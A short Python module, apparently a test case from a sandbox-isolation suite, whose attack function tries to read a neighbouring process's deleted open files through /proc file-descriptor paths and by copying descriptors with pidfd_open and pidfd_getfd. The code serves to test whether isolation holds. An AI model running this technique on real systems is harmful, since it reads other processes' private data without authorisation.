"""Read a neighbour's deleted open file through /proc and by copying its descriptor."""

from __future__ import annotations

import os

from attack_target import show, trying


def attack(target):
    for number in range(3, 20):
        show(f"/proc/self/fd/{number}")
        show(f"/proc/{target.neighbour}/fd/{number}")
    with trying():
        handle = os.pidfd_open(target.neighbour)
        for number in range(3, 20):
            with trying():
                copy = target.call("pidfd_getfd", handle, number, 0)
                print(os.pread(copy, 4096, 0).decode(errors="replace"))
